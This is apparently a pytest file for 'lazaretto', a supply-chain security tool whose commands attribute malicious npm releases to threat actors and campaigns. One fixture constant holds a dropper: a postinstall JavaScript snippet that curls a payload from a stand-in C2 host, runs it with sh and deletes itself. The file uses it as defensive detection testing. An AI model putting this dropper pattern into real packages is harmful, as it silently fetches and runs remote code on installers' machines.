"""``lazaretto intel`` and ``lazaretto attribute``: what is known, and whose handiwork a release is."""

import json
import os
import shutil
from pathlib import Path

import pytest

from lazaretto.bootstrap import App
from lazaretto.core.names import ProjectName, Version
from lazaretto.core.policy import Outcome
from lazaretto.core.standing import Basis, Decision, Identity
from lazaretto.settings import load
from tests.core.packing import honest_tgz
from tests.surfaces.site import NOW, Machine

ROOT = Path(__file__).parents[2]
DROPPER = """
const { execSync } = require("child_process");
execSync("curl -s http://c2.invalid:8000/77 -o /tmp/.x && sh /tmp/.x");
require("fs").unlinkSync(__filename);
"""
STAGE = {"scripts": {"postinstall": "node setup.js"}}


def planted(machine: Machine, name: str, dependency: str = "planted") -> None:
    """Publish a release that newly brings a dependency of minutes."""
    site = machine.site
    site.publish(name, "1.0.0", age=400)
    manifest = site.manifest(name, "1.0.1", dependencies={dependency: "^1.0.1"})
    site.publish(name, "1.0.1", {"package.json": manifest}, age=0)


def bait(machine: Machine) -> None:
    """Publish what is planted: a clean version, then one with a script."""
    site = machine.site
    site.publish("planted", "1.0.0", age=1)
    manifest = site.manifest("planted", "1.0.1", scripts={"postinstall": "node setup.js"})
    site.publish("planted", "1.0.1", {"package.json": manifest, "setup.js": DROPPER}, age=0)


def axios(folder: Path) -> Path:
    """Return the replay of axios 1.14.1 with a small tree for the real release before it: no registry is asked."""
    copy = folder / "2026-03-axios--1.14.1"
    shutil.copytree(ROOT / "replays" / copy.name, copy)
    sheet = (copy / "replay.toml").read_text(encoding="utf-8")
    lines = [line for line in sheet.splitlines() if not line.startswith("sha256")]
    (copy / "replay.toml").write_text("\n".join(lines).replace('"registry"', '"tree"'), encoding="utf-8")
    (copy / "before").mkdir()
    manifest = {"name": "axios", "version": "1.14.0", "main": "index.js", "scripts": {"prepare": "husky"}}
    (copy / "before" / "package.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    (copy / "before" / "index.js").write_text("module.exports = 1;\n", encoding="utf-8")
    return copy


def test_the_replay_of_axios_is_laid_at_a_door_with_reasons(machine: Machine, tmp_path: Path) -> None:
    """The campaign and the set behind it are named: why, what speaks against it, what is shared, what vendors say."""
    ran = machine.run("attribute", str(axios(tmp_path)), "--format", "json")
    hypotheses = {one["id"]: one for one in ran.report["hypotheses"]}

    assert (ran.code, ran.report["named"]) == (0, ["2026-03-axios", "unc1069"])
    hand = hypotheses["unc1069"]
    assert {reason["kind"] for reason in hand["supports"]} >= {"package", "account", "technique", "habit"}
    assert any("stage.invalid" in reason["text"] for reason in hand["contradicts"])
    assert any("T1195.002" in reason["text"] for reason in hand["shared"])
    assert {claim["vendor"] for claim in hand["claims"]} >= {"GTIG", "Microsoft"}
    assert hand["missing"]

    text = machine.run("attribute", str(tmp_path / "2026-03-axios--1.14.1"), "--verbose").out
    assert "named" in text.splitlines()[0]
    assert "GTIG, 2026-03-31: UNC1069 (confidence high)" in text
    assert "not measured" in text


def test_a_control_is_nobodys(machine: Machine) -> None:
    """An honest update leads to nobody, and the answer says so."""
    ran = machine.run("attribute", str(ROOT / "replays" / "controls" / "postmark-mcp@1.0.15"))

    assert ran.code == 0
    assert "unknown" in ran.out.splitlines()[0]
    assert "Nobody is named" in ran.out


def test_a_release_is_read_and_the_journal_remembers_it(machine: Machine) -> None:
    """From its artifacts; and when they are gone, as they soon are, from the verdict that was written down."""
    bait(machine)
    planted(machine, "first")
    read = machine.run("attribute", "first@1.0.1", "--format", "json")
    missing = machine.run("attribute", "first@1.0.1", "--journal")
    machine.run("scan", "first@1.0.1", "--quiet")
    machine.registry(f"{machine.site.server.url}/elsewhere/")
    gone = machine.run("attribute", "first@1.0.1", "--format", "json")

    assert (read.code, read.report["drawn_from"], read.report["named"]) == (0, "its artifacts", [])
    seen = {(one["kind"], one["value"]) for one in read.report["sightings"]}
    assert {("host", "c2.invalid"), ("habit", "decoy-first=yes"), ("package", "pkg:npm/planted@1.0.1")} <= seen
    assert (missing.code, "no verdict on pkg:npm/first@1.0.1" in missing.err) == (2, True)
    assert gone.code == 0, gone.err
    assert gone.report["drawn_from"].startswith("the verdict of")
    assert ("package", "pkg:npm/planted@1.0.1") in {(one["kind"], one["value"]) for one in gone.report["sightings"]}


def test_a_report_and_an_archive_are_read(machine: Machine, tmp_path: Path) -> None:
    """A report that was kept says as much as its findings; an archive has no index to ask."""
    bait(machine)
    planted(machine, "first")
    (tmp_path / "report.json").write_text(machine.run("scan", "first@1.0.1", "--format", "json").out, encoding="utf-8")
    files = {"package.json": machine.site.manifest("own", "1.0.1", **STAGE), "setup.js": DROPPER, "index.js": "1"}
    archive = tmp_path / "own-1.0.1.tgz"
    archive.write_bytes(honest_tgz({f"package/{path}": text.encode() for path, text in files.items()}))

    told = machine.run("attribute", str(tmp_path / "report.json"), "--format", "json")
    read = machine.run("attribute", str(archive), "--format", "json")

    assert (told.code, told.report["drawn_from"]) == (0, "a report")
    assert (read.code, read.report["drawn_from"]) == (0, "the archive")
    for one in (told, read):
        assert ("host", "c2.invalid") in {(seen["kind"], seen["value"]) for seen in one.report["sightings"]}


def test_a_verdict_of_the_firewall_is_read(machine: Machine) -> None:
    """By its short name: from the report that the reading left, as long as that is kept."""
    bait(machine)
    update = machine.run("scan", "planted@1.0.1", "--format", "json").report["updates"][0]
    read, unread = (
        Identity("npm", ProjectName("planted"), Version("1.0.1"), f"{name}.tgz", "sha512:00", NOW) for name in "ab"
    )
    with App(load(os.environ, machine.folder, machine.folder, None)) as app:
        report = app.served_blobs.put(json.dumps(update).encode())
        decisions = [
            Decision(
                ecosystem="npm",
                project=one.project,
                version=one.version,
                filename=one.filename,
                told=one.told,
                sha256=None,
                outcome=Outcome.HOLD,
                complete=True,
                basis=Basis.READ,
                verdict=one.verdict,
                reason="read",
                decided_at=NOW,
                report=report if one is read else None,
            )
            for one in (read, unread)
        ]
        app.ledger.note([read, unread])
        app.ledger.decide(decisions)
    told = machine.run("attribute", read.verdict, "--format", "json")
    nothing = machine.run("attribute", unread.verdict)

    assert (told.code, told.report["subject"]) == (0, "pkg:npm/planted@1.0.1")
    assert ("host", "c2.invalid") in {(seen["kind"], seen["value"]) for seen in told.report["sightings"]}
    assert (nothing.code, "keeps no reading" in nothing.err) == (2, True)


def test_what_two_bring_is_seen_once(machine: Machine) -> None:
    """A planted release that two others bring is read again once, and the answer comes to an end."""
    bait(machine)
    for name in ("carrier", "other"):
        manifest = machine.site.manifest(
            name, "1.0.1", scripts={"postinstall": "node setup.js"}, dependencies={"planted": "^1.0.1"}
        )
        machine.site.publish(name, "1.0.1", {"package.json": manifest, "setup.js": DROPPER}, age=0)
    machine.site.publish("first", "1.0.0", age=400)
    both = {"carrier": "^1.0.1", "other": "^1.0.1"}
    whole = machine.site.manifest("first", "1.0.1", dependencies=both)
    machine.site.publish("first", "1.0.1", {"package.json": whole}, age=0)
    ran = machine.run("attribute", "first@1.0.1", "--format", "json")
    packages = [one["value"] for one in ran.report["sightings"] if one["kind"] == "package"]

    assert packages == [f"pkg:npm/{name}@1.0.1" for name in ("carrier", "first", "other", "planted")]


@pytest.mark.parametrize(
    ("words", "code", "told"),
    [
        (("attribute", "absent.json"), 2, "cannot be read"),
        (("attribute", "nonsense.json"), 2, "is no report"),
        (("attribute", "axios"), 2, "names no version"),
        (("attribute", "absent@1.0.0"), 3, "absent"),
        (("attribute", "ABCDEFGH"), 3, "nothing named"),
        (("intel", "actor", "UNC1070"), 2, "or unc1069"),
        (("intel", "actor", "zzzzzzzzzz"), 2, "intel search"),
        (("intel", "campaign", "2026-03-axioms"), 2, "2026-03-axios"),
        (("intel", "search", " "), 2, "name a text"),
        (("intel", "clusters", "--last", "0"), 2, "from 1 to"),
    ],
)
def test_what_cannot_be_answered_says_why(machine: Machine, words: tuple[str, ...], code: int, told: str) -> None:
    """What is wrong with the question, and what would be right, without a traceback."""
    (machine.folder / "nonsense.json").write_text("{}", encoding="utf-8")
    ran = machine.run(*words)

    assert (ran.code, told in ran.err) == (code, True), ran.err


def test_an_actor_is_found_by_any_of_its_names(machine: Machine) -> None:
    """Whichever vendor's name is used, it is one sheet, which keeps the names apart by vendor."""
    sheets = {name: machine.run("intel", "actor", name).out for name in ("UNC1069", "sapphire sleet", "TA444")}
    told = machine.run("intel", "actor", "UNC1069", "--format", "json").report

    assert len(set(sheets.values())) == 1
    assert "Sapphire Sleet (Microsoft)" in sheets["UNC1069"]
    assert {one["campaign"] for one in told["actors"][0]["campaigns"]} >= {"2026-03-axios", "2025-09-chalk-debug"}
    assert "no campaign" in machine.run("intel", "actor", "APT29").out


def test_a_campaign_tells_its_indicators_by_use(machine: Machine) -> None:
    """What to block, to hunt, and never to block stand apart; what nobody claims is said to be so."""
    text = machine.run("intel", "campaign", "axios").out
    told = machine.run("intel", "campaign", "2026-03-axios", "--format", "json").report["campaigns"][0]

    assert all(word in text for word in ("block (", "hunt (", "do not block (", "do not use (", "known good ("))
    assert told["behind"] == ["unc1069"]
    assert "nobody says" in machine.run("intel", "campaign", "2024-12-rspack").out


def test_a_search_looks_everywhere(machine: Machine) -> None:
    """A host, a technique, a package, an alias: each with where it stands; nothing is 4."""
    assert "2026-03-axios" in machine.run("intel", "search", "SFRCLAK.com").out
    hits = machine.run("intel", "search", "plain-crypto-js", "--format", "json").report["hits"]
    assert {one["field"] for one in hits} >= {"packages", "indicator"}
    nothing = machine.run("intel", "search", "no such \x1b[31mthing")
    assert nothing.code == 4
    assert "\x1b" not in nothing.out


def test_what_hangs_together_here_is_a_group_without_a_name(machine: Machine) -> None:
    """Two releases that bring one planted dependency are grouped by it; one of another kind is not among them."""
    empty = machine.run("intel", "clusters")
    bait(machine)
    for name in ("first", "second"):
        planted(machine, name)
        machine.run("scan", f"{name}@1.0.1", "--quiet")
    told = machine.run("intel", "clusters", "--format", "json")
    text = machine.run("intel", "clusters").out

    assert (empty.code, told.code) == (4, 0)
    (group,) = told.report["clusters"]
    assert group["subjects"] == ["pkg:npm/first@1.0.1", "pkg:npm/second@1.0.1"]
    assert "pkg:npm/planted@1.0.1" in {one["value"] for one in group["shared"]}
    assert "unnamed" in text


def test_help_tells_every_word(machine: Machine, capsys: pytest.CaptureFixture[str]) -> None:
    """Each word is found by its file, and its help has an example."""
    shown = ""
    for words in (("intel", "--help"), ("intel", "actor", "--help")):
        with pytest.raises(SystemExit):
            machine.run(*words)
        shown += capsys.readouterr().out

    assert all(word in shown for word in ("actor", "campaign", "clusters", "search"))
    assert "lazaretto intel actor UNC1069" in shown
